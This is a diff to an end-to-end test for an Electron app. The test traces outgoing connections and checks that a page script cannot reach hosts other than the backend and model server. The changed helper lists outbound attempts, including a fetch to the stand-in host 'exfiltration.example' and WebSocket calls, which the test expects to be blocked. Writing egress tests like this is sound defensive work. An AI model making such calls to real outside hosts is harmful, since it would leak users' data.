@@ -6,7 +6,7 @@ import { signOut } from '../../scripts/drive-app.ts';
 import { resolveRuntime } from '../../scripts/setup/runtime.mjs';
 import { runIdSchema } from '../../shared/ids.ts';
 import { startRecordingProxy } from '../campaigns/support/recording-proxy.ts';
-import { executeInWindow, openSignedIn } from './support/desk-page.ts';
+import { executeInWindow, goOffline, openSignedIn } from './support/desk-page.ts';
 import { expect, invoke, test } from './support/fixtures.ts';
 
 const checkout = resolve(import.meta.dirname, '../..');
@@ -17,6 +17,7 @@ test.describe('what leaves the workstation', () => {
   test('goes to the project and the model, as the kernel sees it; a window reaches nobody', async ({
     launch,
     ready,
+    network,
   }) => {
     test.skip(!canTrace, 'strace needs root here, or is not installed');
     test.slow();
@@ -29,18 +30,25 @@ test.describe('what leaves the workstation', () => {
     const app = await openSignedIn(launch, ready.account('clinician'), {
       executablePath: await tracedElectron(folder, trace),
       args: [`--proxy-server=${elsewhere.url}`, '--proxy-bypass-list=<-loopback>', checkout],
-      env: { HTTP_PROXY: elsewhere.url, HTTPS_PROXY: elsewhere.url, NODE_USE_ENV_PROXY: '1' },
+      env: {
+        SUPABASE_URL: network.url,
+        HTTP_PROXY: elsewhere.url,
+        HTTPS_PROXY: elsewhere.url,
+        NODE_USE_ENV_PROXY: '1',
+      },
     });
     await executeInWindow(app.page, first);
     await invoke(app.page, 'batch.start', { runIds: others });
     await expect(app.page.getByTestId('batch-panel')).toHaveAttribute('data-state', 'finished');
+    await goOffline(app.page, network);
+    network.mend();
     await invoke(app.page, 'sync.pullNow', {});
     await reachOutOfWindow(app.page, elsewhere.url);
     const byChromium = await app.electron.evaluate(reachByChromium, elsewhere.url);
     expect(byChromium).toContain('ERR_BLOCKED_BY_CLIENT');
     await signOut(app.page);
 
-    const expected = [portOf(ready.backend.url), portOf(ready.backend.demoModelUrl)].sort();
+    const expected = [portOf(network.url), portOf(ready.backend.demoModelUrl)].sort();
     expect([...new Set(connectionsIn(trace))].sort()).toEqual(expected);
     expect(elsewhere.asked()).toEqual([]);
 
@@ -122,7 +130,7 @@ type Page = Awaited<ReturnType<typeof openSignedIn>>['page'];
 /** As a script in the page would, with every means of a page. */
 async function reachOutOfWindow(page: Page, address: string): Promise<void> {
   await page.evaluate(async (target) => {
-    const attempts = [
+    const attempts: (() => unknown)[] = [
       () => fetch(target),
       () => fetch('https://exfiltration.example/'),
       () => new WebSocket(target.replace('http', 'ws')),
